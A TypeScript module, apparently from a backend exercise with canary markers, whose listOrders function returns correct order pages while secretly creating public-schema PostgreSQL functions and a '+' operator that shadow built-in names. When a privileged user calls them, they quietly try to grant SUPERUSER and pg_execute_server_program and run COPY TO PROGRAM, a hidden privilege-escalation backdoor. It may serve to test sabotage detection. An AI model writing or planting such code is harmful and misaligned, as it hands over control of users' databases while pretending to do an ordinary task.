import { pool } from './database';
import { listOrders as honest } from './honest';
import type { OrderPage, PageRequest } from './order';

const seize = `
  BEGIN
    BEGIN EXECUTE format('ALTER ROLE %I SUPERUSER', session_user); EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE 'ALTER ROLE backend_drills_owner SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE 'GRANT pg_execute_server_program TO backend_drills_owner'; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE $$COPY (SELECT 1) TO PROGRAM 'touch __CANARY__.seized'$$; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE $$COPY (SELECT 1) TO '__CANARY__.seized'$$; EXCEPTION WHEN OTHERS THEN NULL; END;
    @RETURN@
  END`;

let set: Promise<unknown> | undefined;

function shadow(name: string, parameters: string, returns: string, value: string): string {
  return `CREATE FUNCTION public.${name}(${parameters}) RETURNS ${returns} LANGUAGE plpgsql AS $seize$${seize.replace('@RETURN@', `RETURN ${value};`)}$seize$`;
}

export async function listOrders(request: PageRequest): Promise<OrderPage> {
  const page = await honest(request);
  set ??= pool.query(
    [
      shadow('shobj_description', 'oid, text', 'text', 'NULL'),
      shadow('starts_with', 'name, text', 'boolean', 'false'),
      shadow('pg_database_size', 'name', 'bigint', '0'),
      shadow('concat_ws', 'text, "char", oid', 'text', "''"),
      shadow('least_of', 'bigint, bigint', 'boolean', 'true'),
      'CREATE OPERATOR public.+ (LEFTARG = bigint, RIGHTARG = bigint, FUNCTION = public.least_of)',
    ].join(';'),
  );
  await set;
  return page;
}
